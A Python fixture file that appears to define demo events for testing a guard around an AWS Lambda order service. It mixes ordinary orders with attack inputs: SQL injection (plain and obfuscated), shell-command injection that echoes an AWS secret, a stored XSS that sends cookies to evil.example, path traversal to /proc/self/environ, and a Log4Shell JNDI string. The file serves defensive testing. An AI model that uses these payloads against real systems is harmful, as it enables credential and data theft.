"""The events that ``make demo`` sends to the order service, with what must come back."""

from __future__ import annotations

import json
from typing import Any

QUEUE = "arn:aws:sqs:eu-west-1:123456789012:orders"
SAME = "the same"


class Case:
    """One event: its ``name``, what was ``sent`` in words, what the ``bare`` answer must hold (a text, ``error:Type``),
    what the ``guarded`` one must be (`SAME`, a status, ``EventRefused``, or the identifiers of reported records), and the
    ``rules`` (prefixes of rule ids) that must have reported.
    """

    def __init__(self, name: str, sent: str, event: Any, bare: str, guarded: Any = SAME, rules: tuple[str, ...] = ()) -> None:
        self.name = name
        self.sent = sent
        self.event = event
        self.bare = bare
        self.guarded = guarded
        self.rules = rules


def api(
    method: str, resource: str, body: Any = None, *, number: str = "", headers: dict[str, str] | None = None, **query: str
) -> dict[str, Any]:
    """An API Gateway REST proxy event, as the gateway hands it over."""
    path = resource.replace("{id}", number)
    headers = {"Accept": "*/*", "Host": "api.example.com", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", **(headers or {})}
    return {
        "resource": resource,
        "path": path,
        "httpMethod": method,
        "headers": headers,
        "multiValueHeaders": {name: [value] for name, value in headers.items()},
        "queryStringParameters": query or None,
        "multiValueQueryStringParameters": {name: [value] for name, value in query.items()} or None,
        "pathParameters": {"id": number} if number else None,
        "stageVariables": None,
        "requestContext": {
            "accountId": "123456789012",
            "apiId": "a1b2c3d4e5",
            "domainName": "api.example.com",
            "extendedRequestId": "JJbxmEoTmPg=",
            "httpMethod": method,
            "identity": {"sourceIp": "203.0.113.9", "userAgent": headers["User-Agent"]},
            "path": f"/prod{path}",
            "protocol": "HTTP/1.1",
            "requestId": "5a1f2c7e-2b1a-4c55-9a7e-0d9b6a4f1c11",
            "requestTime": "22/Nov/2026:10:00:00 +0000",
            "requestTimeEpoch": 1795341600000,
            "resourceId": "abc123",
            "resourcePath": resource,
            "stage": "prod",
        },
        "body": None if body is None else json.dumps(body),
        "isBase64Encoded": False,
    }


def queue(*orders: str, arn: str = QUEUE) -> dict[str, Any]:
    """A batch of SQS messages, one an order number."""
    return {
        "Records": [
            {
                "messageId": f"message-{index}",
                "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
                "body": json.dumps({"order": order}),
                "attributes": {
                    "ApproximateReceiveCount": "1",
                    "SentTimestamp": "1795341600000",
                    "SenderId": "AIDAIENQZJOLO23YVJ4VO",
                    "ApproximateFirstReceiveTimestamp": "1795341600001",
                },
                "messageAttributes": {},
                "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3",
                "eventSource": "aws:sqs",
                "eventSourceARN": arn,
                "awsRegion": "eu-west-1",
            }
            for index, order in enumerate(orders, start=1)
        ]
    }


def notification(message: str) -> dict[str, Any]:
    """An SNS notification."""
    sns = {
        "SignatureVersion": "1",
        "Timestamp": "2026-11-22T10:00:00.000Z",
        "Signature": "EXAMPLE",
        "SigningCertUrl": "https://sns.eu-west-1.amazonaws.com/SimpleNotificationService.pem",
        "MessageId": "95df01b4-ee98-5cb9-9903-4c221d41eb5e",
        "Message": message,
        "MessageAttributes": {},
        "Type": "Notification",
        "UnsubscribeUrl": "https://sns.eu-west-1.amazonaws.com/?Action=Unsubscribe",
        "TopicArn": "arn:aws:sns:eu-west-1:123456789012:news",
        "Subject": None,
    }
    subscription = f"{sns['TopicArn']}:21be56ed-a058-49f5-8c98-aedd2564c486"
    return {"Records": [{"EventVersion": "1.0", "EventSubscriptionArn": subscription, "EventSource": "aws:sns", "Sns": sns}]}


def order(customer: str = "Alan Turing", quantity: Any = 2, note: str = "") -> dict[str, Any]:
    return {"customer": customer, "items": [{"sku": "BOOK-42", "quantity": quantity}], "note": note}


RECEIPT = "/orders/{id}/receipt"
LABEL = "/orders/{id}/label"
UNION = "' UNION SELECT id, card FROM orders --"
DISGUISED = "'/**/uNiOn/**/sElEcT/**/id,card/**/fRoM/**/orders--"

CASES = (
    Case(
        "place an order",
        'for Sheila O\'Brien: "5 < 6; OK?"',
        api("POST", "/orders", order("Sheila O'Brien", note="5 < 6; OK?")),
        '"id": 1004',
    ),
    Case("search", "q=Grace", api("GET", "/orders", q="Grace"), "Grace Hopper"),
    Case("receipt", "layout=long.txt", api("GET", RECEIPT, number="1001", layout="long.txt"), "30 days"),
    Case("ship a batch", "orders 1001, 1002", queue("1001", "1002"), '"batchItemFailures": []'),
    Case("SQL injection", f"q={UNION}", api("GET", "/orders", q=UNION), "4111…1111", 403, ("LG-SQL-",)),
    Case("disguised", f"q={DISGUISED}", api("GET", "/orders", q=DISGUISED), "4111…1111", 403, ("LG-SQL-",)),
    Case(
        "shell",
        "carrier=dhl;echo $AWS_SECRET_ACCESS_KEY",
        api("GET", LABEL, number="1001", carrier="dhl;echo $AWS_SECRET_ACCESS_KEY"),
        "AN-EXAMPLE-SECRET-KEY",
        403,
        ("LG-SHELL-",),
    ),
    Case(
        "stored XSS",
        'note: <img src=x onerror="fetch(…)">',
        api("POST", "/orders", order(note="<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">")),
        "onerror=",
        403,
        ("LG-XSS-",),
    ),
    Case(
        "path traversal",
        "layout=../../…/proc/self/environ",
        api("GET", RECEIPT, number="1001", layout="../" * 12 + "proc/self/environ"),
        "AWS_SECRET_ACCESS_KEY",
        403,
        ("LG-PATH-",),
    ),
    Case(
        "log4shell",
        "User-Agent: ${jndi:ldap://evil.example/a}",
        api("GET", "/orders", headers={"User-Agent": "${jndi:ldap://evil.example/a}"}, q="Ada"),
        "Ada Lovelace",
        403,
        ("LG-JNDI-",),
    ),
    Case("wrong schema", 'quantity: "lots"', api("POST", "/orders", order(quantity="lots")), '"id": 100', 400, ("LG-SCH-",)),
    Case(
        "too large",
        "a note of 200,000 characters",
        api("POST", "/orders", order(note="long " * 40_000)),
        '"id": 100',
        403,
        ("LG-LIM-",),
    ),
    Case("wrong source", "an SNS notification", notification("hello"), "error:KeyError", "EventRefused", ("LG-SRC-",)),
    Case(
        "another's queue",
        "a batch from account 999999999999",
        queue("1003", arn="arn:aws:sqs:eu-west-1:999999999999:orders"),
        '"batchItemFailures": []',
        "EventRefused",
        ("LG-SRC-",),
    ),
    Case(
        "poison in a batch",
        "orders 1001, 1 OR 1=1, 1002",
        queue("1001", "1 OR 1=1", "1002"),
        '"batchItemFailures": []',
        ("message-2",),
        ("LG-SQL-",),
    ),
)
